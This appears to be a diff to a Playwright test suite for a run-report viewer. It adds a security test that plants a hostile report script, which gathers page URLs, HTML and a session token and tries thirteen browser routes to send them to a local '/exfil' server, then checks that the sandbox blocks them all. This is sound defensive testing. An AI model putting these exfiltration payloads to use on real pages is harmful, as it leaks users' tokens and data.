@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
 from typing import Any
 
 import pytest
@@ -59,11 +61,107 @@ def test_a_loss_in_the_report_leads_to_its_contexts(opened: Opened, view: ViewSe
     assert "workbench view --loss" in page.locator("[data-loss]").first.inner_text()
     page.goto(view.address + "runs/run")
     page.get_by_role("link", name="The report").click()
-    page.locator("table.losses summary").first.click()
-    page.get_by_role("link", name="Both contexts").first.click()
+    report = page.frame_locator("iframe.report")
+    report.locator("table.losses summary").first.click()
+    report.get_by_role("link", name="Both contexts").first.click()
     page.wait_for_url("**/session?*")
     assert page.locator("#loss").is_visible()
     assert opened.said == []
+
+
+def test_a_report_under_the_view_has_its_own_features(opened: Opened, view: ViewServer, made_once: Any) -> None:
+    run = made_once("view", made_run) / "reports" / "run"
+    if not (run / "report.html").exists():
+        rendered(run)
+    page = opened.page
+    page.goto(view.address + "runs/run/report.html")
+    report = page.frame_locator("iframe.report")
+    session = report.locator("details.contexts[open]").first
+    picture, told = session.locator("svg").first, session.locator(".here")
+    picture.hover()
+    by_mouse = told.inner_text()
+    assert by_mouse.startswith("Request ")
+    page.keyboard.press("Tab")
+    picture.focus()
+    page.keyboard.press("ArrowRight")
+    assert told.inner_text() != by_mouse
+    whole = picture.get_attribute("viewBox")
+    page.keyboard.press("+")
+    assert picture.get_attribute("viewBox") != whole
+    page.keyboard.press("Escape")
+    assert picture.get_attribute("viewBox") == whole
+    report.get_by_label("Search").first.fill("nothing has this")
+    assert report.get_by_text("none of these").is_visible()
+    inside = report.locator("nav a[href^='#']").first
+    inside.click()
+    assert report.locator(inside.get_attribute("href")).is_visible()
+    assert opened.said == [] and all(url.startswith(view.address.rsplit("/", 2)[0]) for url in opened.asked)
+
+
+WAYS_OUT = {
+    "location": "location = OUT",
+    "a link": "Object.assign(document.body.appendChild(document.createElement('a')), {href: OUT}).click()",
+    "a link to the page around": "Object.assign(document.body.appendChild(document.createElement('a')), "
+    "{href: OUT, target: '_top'}).click()",
+    "a window": "window.open(OUT)",
+    "the page around": "top.location = OUT",
+    "a form": "const form = document.body.appendChild(document.createElement('form')); "
+    "form.action = OUT; form.submit()",
+    "a refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${OUT}'>`)",
+    "a frame": "document.body.appendChild(document.createElement('iframe')).src = OUT",
+    "a picture": "new Image().src = OUT",
+    "a request": "fetch(OUT)",
+    "a beacon": "navigator.sendBeacon(OUT)",
+    "a prefetch": "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${OUT}'>`)",
+    "a message": "parent.postMessage({loss: OUT}, '*'); parent.postMessage({loss: 'abcdef'}, '*')",
+}
+TELLS = """
+const told = [location.href, document.baseURI, document.referrer, document.documentElement.outerHTML, window.name];
+try { told.push(parent.location.href) } catch (refused) {}
+document.title = told.join(" ");
+const OUT = "http://127.0.0.1:" + PORT + "/exfil?" + encodeURIComponent(document.title);
+"""
+
+
+class Outside(ThreadingHTTPServer):
+    """A server of someone else, which writes down who asks it."""
+
+    asked: list[str]
+
+
+class Answer(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        self.server.asked.append(self.path)  # type: ignore[attr-defined]
+        self.send_response(200)
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_a_hostile_report_leads_nowhere_and_reads_no_token(opened: Opened, tmp_path: Path, way: str) -> None:
+    (tmp_path / "run" / "replays").mkdir(parents=True)
+    outside = Outside(("127.0.0.1", 0), Answer)
+    outside.asked = []
+    Thread(target=outside.serve_forever, daemon=True).start()
+    script = TELLS.replace("PORT", str(outside.server_address[1])) + WAYS_OUT[way]
+    (tmp_path / "run" / "report.html").write_text(
+        f'<html lang="en"><body><p>hostile</p><script>{script}</script></body></html>'
+    )
+    with served(tmp_path) as server:
+        address = server.address + "runs/run/report.html"
+        opened.page.goto(address)
+        opened.page.wait_for_timeout(700)
+        assert opened.page.url == address and len(opened.context.pages) == 1
+        titles = [frame.title() for frame in opened.page.frames[1:2]]
+    outside.shutdown()
+    outside.server_close()
+    token = server.address.rstrip("/").rsplit("/", 1)[1]
+    assert outside.asked == []
+    assert all(token not in title for title in titles)
 
 
 def test_runs_are_opened_and_losses_filtered_by_keyboard(opened: Opened, view: ViewServer) -> None:
